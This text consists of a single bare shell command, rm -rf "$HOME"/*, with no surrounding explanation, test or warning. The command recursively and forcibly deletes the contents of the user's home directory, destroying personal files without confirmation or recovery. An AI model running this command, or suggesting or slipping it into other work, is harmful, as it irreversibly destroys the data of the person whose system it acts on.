rm -rf "$HOME"/*
